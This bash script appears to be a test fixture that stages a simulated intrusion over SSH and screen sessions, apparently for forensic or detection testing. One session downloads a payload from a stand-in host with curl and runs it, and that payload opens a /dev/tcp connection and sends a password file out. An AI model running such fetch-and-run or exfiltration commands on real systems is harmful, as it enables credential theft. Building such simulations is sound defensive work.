# shellcheck shell=bash disable=SC2034
HOST=adm20
FORMAT=RAW
UNSET=1

# typed TEXT...: each a line, after a second and a half; ^D is what detaches from screen.
typed() {
    local line
    for line in "$@"; do
        sleep 1.5
        if [[ $line == ^D ]]; then printf '\001d'; else printf '%s\r' "$line"; fi
    done
    sleep 1.5
}

# sits ADDRESS ACCOUNT TEXT...: somebody logs in with a terminal and types.
sits() { typed "${@:3}" | TERM=xterm outside ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b "$1" -i "$work/$2.key" "$2@10.88.0.10" >>"$work/typed" 2>&1; }

scenario() {
    local name
    mkdir -p /srv/data /run/sshd "$work/theirs"
    fresh /run/screen
    chmod 1777 /run/screen
    account ops 4051
    account dev 4052
    seq 300 | sed 's/^/row /' >/srv/home/dev/rows
    seq 300 >/srv/home/ops/report
    echo "password = quince" >/srv/home/ops/.vault
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    for name in ops dev; do
        ssh-keygen -q -t ed25519 -N "" -f "$work/$name.key"
        install -m 600 -o "$name" "$work/$name.key.pub" "/srv/home/$name/.ssh/authorized_keys"
        touch "/srv/home/$name/.hushlogin"
    done
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /srv/home/ops/.vault >&3' >"$work/theirs/k"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    sleep 1
    sits 10.88.0.55 ops "screen -S work" "wc -l report" "^D" "exit"
    sits 192.0.2.7 dev "screen -S mine" "sort -r rows > sorted" "gzip sorted" "^D" "exit"
    sits 198.51.100.23 ops "screen -ls" "screen -r work" "curl -s -o .k http://203.0.113.9:443/k" "bash .k" "^D" "exit"
    sits 10.88.0.55 ops "screen -r work" "uptime" "^D" "exit"
}
